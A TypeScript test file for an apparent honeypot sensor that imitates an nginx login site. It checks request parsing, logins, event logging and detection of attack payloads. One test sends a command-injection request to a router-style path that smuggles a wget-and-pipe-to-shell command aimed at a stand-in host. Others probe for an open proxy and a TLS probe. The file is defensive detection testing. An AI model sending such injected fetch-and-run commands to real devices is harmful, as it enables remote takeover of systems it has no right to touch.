import fc from 'fast-check'
import { expect, test } from 'vitest'
import { cut, heard, testSensor } from '../../testing.ts'
import { Reader } from '../../runtime/reader.ts'
import { readRequest } from './message.ts'

const parse = async (bytes: Buffer, places: readonly number[] = []) => {
  const reader = new Reader()
  void (async () => {
    for (const part of cut(bytes, places)) {
      await Promise.resolve()
      reader.push(part)
    }
    reader.end()
  })()
  const all: unknown[] = []
  try {
    for (let next; (next = await readRequest(reader, async () => {})) !== undefined;)
      all.push({ ...next, body: next.body.toString('hex'), raw: next.raw.toString('hex') })
  } catch (error) {
    all.push((error as Error).name)
  }
  return all
}

test('requests read the same however the network cuts them, and garbage ends in a name of ours', async () => {
  const token = fc.string({ maxLength: 12, unit: fc.constantFrom(...'GETPOSabc/%?=:; \r\n\0\u00ff'.split('')) })
  await fc.assert(
    fc.asyncProperty(
      fc.array(token, { maxLength: 12 }),
      fc.array(fc.nat(), { maxLength: 15 }),
      async (parts, places) => {
        const bytes = Buffer.from(
          `GET /${parts.join('')} HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\nabc${parts.join('\r\n')}`,
          'latin1',
        )
        const once = await parse(bytes)
        expect(await parse(bytes, places)).toEqual(once)
        for (const one of once) if (typeof one === 'string') expect(['Malformed', 'EndOfStream']).toContain(one)
      },
    ),
  )
})

test('the site signs in, every request is recorded as it came, and its payload URLs are found', async () => {
  await using lab = await testSensor()
  const url = `http://127.0.0.1:${lab.port('http')}`
  const home = await fetch(url, {
    redirect: 'manual',
    headers: { 'user-agent': 'Mozilla/5.0 (compatible; +http://bot.example/about)' },
  })
  expect([home.status, home.headers.get('server'), home.headers.get('location')]).toEqual([
    302,
    'nginx/1.18.0',
    '/login',
  ])
  expect(await (await fetch(`${url}/login`)).text()).toContain('<form method="post"')
  const wrong = await fetch(`${url}/login`, {
    method: 'POST',
    body: new URLSearchParams({ username: 'admin', password: '=1+1' }),
    redirect: 'manual',
  })
  expect(wrong.status).toBe(200)
  const [pair] = lab.sensor.persona.credentials
  const right = await fetch(`${url}/login`, {
    method: 'POST',
    body: new URLSearchParams({ username: pair?.user ?? '', password: pair?.password ?? '' }),
    redirect: 'manual',
  })
  expect(right.headers.get('location')).toBe('/dashboard')
  expect((await fetch(`${url}/nothing`)).status).toBe(404)
  await fetch(
    `${url}/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget%20http%3A%2F%2F203.0.113.5%2Ft.sh%20-O-%7Csh)`,
  )
  expect((await lab.until('payload.seen')).data).toMatchObject({
    url: 'http://203.0.113.5/t.sh',
    decoded: 'url',
    tool: 'wget',
  })
  const events = await lab.events()
  // The link in the crawler's name is no payload.
  expect(events.filter(({ kind }) => kind === 'payload.seen')).toHaveLength(1)
  expect(
    events.filter((event) => event.kind === 'auth.attempt').map(({ data }) => [data.secret, data.accepted]),
  ).toEqual([
    ['=1+1', false],
    [pair?.password, true],
  ])
  const first = events.find((event) => event.kind === 'request')
  expect(Buffer.from(first?.data.raw ?? '', 'base64').toString()).toMatch(/^GET \/ HTTP\/1\.1\r\nhost: 127/)
  expect(lab.log).toEqual([])
})

test('pipelined, chunked, old and odd requests are answered; what is no HTTP gets 400', async () => {
  await using lab = await testSensor()
  const say = async (text: string): Promise<string> => {
    const socket = await lab.connect('http')
    socket.end(Buffer.from(text, 'latin1'))
    return heard(socket, undefined)
  }
  expect(
    (await say('GET /login HTTP/1.1\r\nHost: a\r\n\r\nGET /x HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n')).match(
      /^HTTP\/1\.1 \d+/gm,
    ),
  ).toEqual(['HTTP/1.1 200', 'HTTP/1.1 404'])
  expect(
    await say('POST /login HTTP/1.1\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n5\r\nabcde\r\n0\r\n\r\n'),
  ).toContain('200 OK')
  expect(await say('GET /login\r\n')).toContain('<form')
  expect(await say('PROPFIND / HTTP/1.1\r\nConnection: close\r\n\r\n')).toContain('405')
  expect(await say('CONNECT mail.example:25 HTTP/1.1\r\nHost: x\r\n\r\n')).toContain('405')
  expect(await say('\x16\x03\x01\x02\x00\x01\x00\x01\xfc\r\n\r\n')).toContain('400 Bad Request')
  expect((await lab.until('forward.request')).data).toMatchObject({ host: 'mail.example', port: 25, method: 'CONNECT' })
  expect((await lab.until('scan.probe')).data.protocol).toBe('tls')
})
